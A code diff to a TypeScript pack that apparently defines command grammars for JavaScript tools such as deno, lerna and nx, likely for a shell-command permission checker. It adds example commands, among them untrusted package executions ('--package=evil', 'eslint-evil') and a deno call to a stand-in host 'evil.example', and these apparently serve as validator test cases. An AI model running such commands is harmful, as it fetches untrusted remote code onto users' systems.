@@ -85,7 +85,8 @@ export const javascript = (): Pack => ({
       ~ run ; -if-present -silent -bun b ; script! scriptarg*`,
     deno: `
       ; V! -version! v ;
-      info ; -json -no-remote q -quiet ; infile
+      info ; -json q -quiet ;
+      ~ info ; -json -no-remote q -quiet ; infile
       ~ fmt ; -check q -quiet -ext:param -line-width:num -use-tabs -indent-width:num -single-quote -no-semicolons ; infile*
       ~ lint ; q -quiet -json -rules -rules-tags:param -rules-include:param -rules-exclude:param -compact ; infile*
       ~ check ; q -quiet -all ; infile*`,
@@ -146,7 +147,7 @@ export const javascript = (): Pack => ({
       '; -version! ;\n~ run ; F:id -filter:id -force -no-cache -output-logs:=full|hash-only|new-only|errors-only|none -parallel -continue? -concurrency:id -dry? ; script*',
     nx: '; -version! ;\n~ test|build|lint|e2e|typecheck ; -skip-nx-cache -parallel:num -verbose -watch ; id\nreport|list ; ;',
     lerna:
-      '; v! -version! ;\n~ ls|list|la|ll|changed|diff ; -all a -long l -json -graph -toposort ; id\n~ run ; -scope:id -ignore:id -parallel -stream -since:ref -concurrency:num -no-bail ; script!',
+      '~ ; v! -version! ;\n~ ls|list|la|ll|changed|diff ; -all a -long l -json -graph -toposort ; id\n~ run ; -scope:id -ignore:id -parallel -stream -since:ref -concurrency:num -no-bail ; script!',
   },
   rules: [],
   examples: {
@@ -213,6 +214,12 @@ export const javascript = (): Pack => ({
       'npm i x',
       'npm ci',
       'npm exec -- touch x',
+      'npm exec mocha --package=evil',
+      'npm exec eslint -c id',
+      'npx mypy src',
+      'bunx black .',
+      'npm exec -- pytest -q',
+      'deno info https://evil.example/x.ts',
       'npm exec eslint-evil',
       'npm explore npm -- touch x',
       'npm config set a b',
